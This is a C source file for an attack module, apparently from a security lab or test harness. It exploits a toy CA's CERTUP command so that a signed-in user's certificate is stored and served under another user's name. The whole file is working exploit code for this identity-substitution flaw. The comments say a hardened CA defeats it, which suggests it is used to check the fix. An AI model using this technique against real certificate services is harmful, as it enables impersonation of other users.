/*
 * ca-certup: CERTUP overwrites (seed 004).  The CA stores any
 * certificate it issued under any name a signed-in user gives: mallory
 * uploads her own certificate for bob, and CERTREQ bob then returns
 * mallory's.  The hardened CA takes CERTUP only for one's own name: bob's
 * certificate stays his, and the attack fails.
 */
#include <err.h>
#include <getopt.h>
#include <stdlib.h>
#include <string.h>

#include "ca.h"
#include "secret.h"

static const struct option longopts[] = {
    CA_WHO_OPTIONS,
    {"cert", required_argument, NULL, 'c'},
    {"for", required_argument, NULL, 't'},
    {NULL, 0, NULL, 0},
};

/* CERTUP victim with the certificate's PEM; says the CA's answer. */
static void
upload(const struct ca_who *w, const char *victim, const char *path)
{
	static struct ca_conn c;
	uint8_t *pem;
	size_t len;

	pem = attack_slurp(path, X509_PEM_MAX, &len);
	ca_who_signin(w, &c);
	if (ca_ask(&c, CA_CERTUP, victim, pem, len) == -1)
		attack_progress(
		    "CERTUP %s: the CA closed the connection", victim);
	else
		attack_progress("CERTUP %s: \"%.80s\"", victim, c.msg);
	ca_close(&c);
	free(pem);
}

/* Whether CERTREQ victim now gives mine; writes it (PEM) if so. */
static int
check(const struct ca_who *w, const char *victim, const uint8_t *mine,
    size_t minelen)
{
	static uint8_t der[X509_DER_MAX], pem[X509_PEM_MAX];
	size_t derlen, pemlen;

	if (ca_fetch(w, victim, der, &derlen) != 0)
		return 1;
	if (derlen != minelen || memcmp(der, mine, derlen) != 0) {
		attack_progress("CERTREQ %s: not the certificate uploaded:"
				" nothing replaced",
		    victim);
		attack_stats(3, 0);
		return 1;
	}
	if (x509_pem_write(der, derlen, 0, pem, sizeof(pem), &pemlen) !=
	    X509_OK)
		errx(2, "%s: a certificate too long", victim);
	attack_progress("CERTREQ %s: %s's certificate: %s's is replaced",
	    victim, w->user, victim);
	attack_stats(3, pemlen);
	attack_output(pem, pemlen);
	return 0;
}

static int
ca_certup_main(int argc, char *argv[])
{
	static uint8_t mine[X509_DER_MAX];
	struct ca_who w = {0};
	const char *cert = NULL, *victim = NULL;
	size_t minelen;
	int ch, rv;

	while ((ch = attack_getopt(argc, argv, "c:t:u:", longopts)) != -1)
		if (ch == 'c')
			cert = optarg;
		else if (ch == 't' && x509_cn_safe(optarg))
			victim = optarg;
		else if (ch == 't')
			errx(2, "--for %s: not a user name", optarg);
		else
			(void)ca_who_option(&w, ch, optarg);
	argc -= optind;
	argv += optind;
	if (argc != 1 || cert == NULL || victim == NULL || w.user == NULL ||
	    w.passlen == 0)
		attack_usage();
	w.addr = argv[0];
	ca_cert_read(cert, mine, &minelen);
	upload(&w, victim, cert);
	rv = check(&w, victim, mine, minelen);
	secret_wipe(w.pass, sizeof(w.pass));
	return rv;
}

const struct attack attack_ca_certup = {
    "ca-certup",
    "-u user --pass-file file -c cert --for victim host:port",
    "ca: CERTUP stores one's certificate under another's name",
    CA_WHO_HELP
    "  -c, --cert file    the attacker's certificate (issued by the CA)\n"
    "  --for victim       the name to store it under: CERTREQ victim then\n"
    "                     returns it, and it is written (PEM)\n"
    "  host:port          the CA (pk-relay's ca service)\n",
    ca_certup_main,
};
